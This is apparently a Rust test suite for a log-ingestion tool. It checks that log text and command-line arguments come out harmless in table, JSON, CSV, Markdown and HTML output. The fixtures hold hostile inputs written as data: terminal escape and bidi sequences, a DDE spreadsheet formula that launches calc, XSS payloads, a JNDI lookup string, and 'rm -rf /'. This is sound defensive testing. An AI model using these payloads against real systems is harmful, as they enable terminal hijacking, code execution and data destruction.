//! Log text is data: whatever stands in it, in a name of a host or of a file, no output of any command holds what a
//! terminal obeys, what hides text, or what a spreadsheet runs.

use crate::machine::{Machine, column, control, text};
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;

/// Colours, a window title, a link, the clipboard, a cleared screen, C1 codes, backspaces, bidi, invisible and tag letters.
const HOSTILE: &str = "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7} \u{1b}]8;;http://x\u{1b}\\link \u{1b}]52;c;aGk=\u{7} \
    \u{1b}[2J \u{9b}31m \u{8}\u{8} \u{7f} \r over \u{202e}drow\u{202c} \u{2066}x\u{2069} a\u{200b}b \u{2028} \u{feff} \
    \u{e0041}\u{e0042} \u{0}nul";

/// A fault with hostile text in every place a line has, that comes back often enough to be a candidate.
fn log() -> String {
    let mut lines = String::new();
    for day in 2..9 {
        for (hour, n) in [(1, 0), (5, 1), (9, 2), (14, 3), (20, 4)] {
            let host = ["web", "db", "mail"][(day + n) % 3];
            lines.push_str(&format!(
                "<11>1 2026-03-{day:02}T{hour:02}:00:0{n}Z {host}\u{1b}[1m\u{202e} app\u{7}\u{9b} {n} - - \
                 error: disk failure {HOSTILE} =cmd|' /C calc'!A0\n"
            ));
            lines.push_str(&format!(
                "{{\"time\":\"2026-03-{day:02}T{hour:02}:10:00Z\",\"level\":\"error\",\"host\":\"j\\u001b[2J\\u202e\",\
                 \"service\":\"s\\u0007\\u009b\",\"message\":\"failed \\u001b]0;t\\u0007 \\u202e\\u200b\",\
                 \"key\\u001b[1m\":\"value\\u001b[1m\"}}\n"
            ));
        }
    }
    lines
}

fn attacked() -> (Machine, Vec<u8>) {
    let machine = Machine::new();
    let name = "evil\u{1b}]0;x\u{7}\u{202e}\n.log".as_bytes();
    let path = machine
        .path("logs")
        .join(OsStr::from_bytes(&[name, b"\xff"].concat()));
    std::fs::create_dir(machine.path("logs")).expect("a directory");
    std::fs::write(&path, log()).expect("a file");
    let run = machine.ok(&["ingest", &text(&machine.path("logs"))]);
    let said = run.out;
    (machine, said)
}

/// No control character but the ends of lines, which are ours.
#[track_caller]
fn harmless(out: &[u8], what: &str) {
    let text = String::from_utf8_lossy(out);
    assert_eq!(control(out), None, "{what}: {text:?}");
    assert!(std::str::from_utf8(out).is_ok(), "{what}: {text:?}");
}

#[test]
fn no_output_of_any_command_holds_what_a_terminal_obeys() {
    let (machine, said) = attacked();
    harmless(&said, "ingest");
    let at = ["--as-of", "2026-03-09", "--wide"];
    let answer = |args: &[&str]| machine.json(&[&at[..], args].concat());
    let candidates = column(
        &answer(&["candidates", "--limit", "0"])["results"],
        "candidate_id",
    );
    assert!(!candidates.is_empty(), "the fault was not found");
    let title = format!("title {HOSTILE}").replace('\0', "");
    answer(&[
        "promote",
        &candidates[0],
        "--title",
        &title,
        "--summary",
        &title,
        "--check",
        &title,
    ]);
    let said = ["known", "--notes", &title, "--reviewer", &title];
    answer(&[&["review", &candidates[candidates.len() - 1]], &said[..]].concat());
    let mut commands: Vec<Vec<String>> = [
        &["candidates", "--limit", "0"][..],
        &["signatures", "--limit", "0"],
        &["events", "--limit", "0"],
        &["digest", "--since", "14d", "--limit", "0"],
        &["incidents"],
        &["review"],
        &["prune", "--dry-run"],
        &["status"],
        &["replay"],
    ]
    .iter()
    .map(|args| args.iter().map(ToString::to_string).collect())
    .collect();
    let mut ids = candidates;
    ids.extend(column(&answer(&["signatures"])["results"], "signature_id"));
    ids.extend(column(
        &answer(&["incidents"])["results"],
        "incident_memory_id",
    ));
    let events = column(&answer(&["events", "--limit", "0"])["results"], "event_id");
    ids.extend(events.into_iter().take(2));
    for id in ids {
        commands.push(vec!["explain".into(), id.clone()]);
        commands.push(vec!["related".into(), id]);
    }
    for command in &commands {
        for format in ["table", "json", "ndjson", "csv", "markdown", "html"] {
            let args: Vec<&str> = command.iter().map(String::as_str).collect();
            let run = machine.run(&[&at[..], &args, &["--format", format]].concat());
            // Hostile logs may well make the state unhealthy.
            let code = run.code.expect("an exit code");
            assert!(code <= 1, "{}: {code} {}", run.said, run.err());
            harmless(&run.out, &run.said);
        }
        let args: Vec<&str> = command.iter().map(String::as_str).collect();
        let ascii = machine.run(&[&["--ascii"], &at[..], &args].concat());
        assert!(ascii.out.is_ascii(), "{}", ascii.said);
    }
}

#[test]
fn no_cell_of_a_sheet_begins_a_formula() {
    let (machine, _) = attacked();
    let mut lines = String::new();
    for start in ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1", "\u{ff1d}1"] {
        lines.push_str(&format!("{start} failed\n"));
    }
    machine.pipe(lines, &["ingest", "-i", "plain"]).exits(0);
    for command in ["events", "signatures", "candidates"] {
        let out = machine
            .ok(&[command, "--limit", "0", "--format", "csv"])
            .out();
        let mut sheet = csv::Reader::from_reader(out.as_bytes());
        for row in sheet.records() {
            for cell in &row.expect("a row") {
                let formula = cell
                    .trim_start()
                    .starts_with(['=', '+', '-', '@', '\u{ff1d}']);
                let number = cell.parse::<f64>().is_ok();
                assert!(!formula || number, "{command}: {cell:?}");
            }
        }
    }
}

#[test]
fn log_text_makes_no_links_or_pictures_in_markdown() {
    let machine = Machine::new();
    let mut lines = String::new();
    for day in 2..9 {
        for hour in [1, 7, 13, 19] {
            lines.push_str(&format!(
                "2026-03-{day:02}T{hour:02}:00:00+00:00 web-1 app: error: failed <img src=x onerror=alert(1)> \
                 [click](javascript:alert(1)) ![p](http://x/y.png) `code` | pipe @user <script>\n"
            ));
        }
    }
    machine.pipe(lines, &["ingest"]).exits(0);
    for command in [
        &["candidates"][..],
        &["digest", "--since", "9d"],
        &["events"],
        &["signatures"],
    ] {
        let args = [
            &["--as-of", "2026-03-09"],
            command,
            &["--format", "markdown"],
        ]
        .concat();
        let page = machine.ok(&args).out();
        assert!(page.contains("click"), "{page}");
        let bare = without_code(&page);
        for bad in ["<img", "<script", "](javascript", "![p]"] {
            assert!(!bare.contains(bad), "{command:?}: {bad} in {bare}");
        }
        let html =
            machine.ok(&[&["--as-of", "2026-03-09"], command, &["--format", "html"]].concat());
        for bad in ["<img", "<script", "href=\"javascript"] {
            assert!(!html.out().contains(bad), "{command:?}: {bad}");
        }
    }
}

/// A page without what stands between backticks, where nothing is markup.
fn without_code(page: &str) -> String {
    let mut out = String::new();
    let mut rest = page;
    while let Some(at) = rest.find('`') {
        out.push_str(&rest[..at]);
        let fence = rest[at..].chars().take_while(|c| *c == '`').count();
        let open = &rest[at..at + fence];
        let inner = &rest[at + fence..];
        let mut from = 0;
        let end = loop {
            let Some(found) = inner[from..].find(open).map(|f| f + from) else {
                break None;
            };
            let run = inner[found..].chars().take_while(|c| *c == '`').count();
            if run == fence {
                break Some(found + fence);
            }
            from = found + run;
        };
        match end {
            Some(end) => rest = &inner[end..],
            None => {
                out.push_str(open);
                rest = inner;
            }
        }
    }
    out.push_str(rest);
    out
}

#[test]
fn hostile_arguments_are_told_harmlessly() {
    let machine = Machine::new();
    machine.pipe("x\n", &["ingest"]).exits(0);
    let evil = "\u{1b}]0;x\u{7}\u{202e}\n\u{9b}2J";
    for args in [
        &["ingest", evil][..],
        &["explain", evil],
        &["explain", &format!("cand_{evil}")],
        &["related", &format!("sig_{evil}")],
        &["events", "--since", evil],
        &["events", "--severity", evil],
        &["--as-of", evil, "candidates"],
        &["--tenant", evil, "status"],
        &["--store", evil, "status"],
        &["--config", evil, "status"],
        &["--timezone", evil, "ingest"],
        &["candidates", "--type", evil],
        &["candidates", "--format", evil],
        &["replay", "--step", evil],
        &[evil],
    ] {
        let run = machine.run(args);
        assert_ne!(run.code, Some(0), "{args:?}");
        let json = machine.run(&[args, &["--format", "json"]].concat());
        harmless(&json.out, "an error in JSON");
    }
}

#[test]
fn format_strings_and_templates_are_only_text() {
    let machine = Machine::new();
    let line = "2026-03-02T00:00:00+00:00 web-1 app: ${jndi:ldap://x} {{7*7}} %n%s $(id) `id` {} ; rm -rf /\n";
    machine.pipe(line, &["ingest"]).exits(0);
    let events = machine.json(&["events"]);
    let message = &column(&events["results"], "message_raw")[0];
    assert_eq!(
        message,
        "${jndi:ldap://x} {{7*7}} %n%s $(id) `id` {} ; rm -rf /"
    );
}
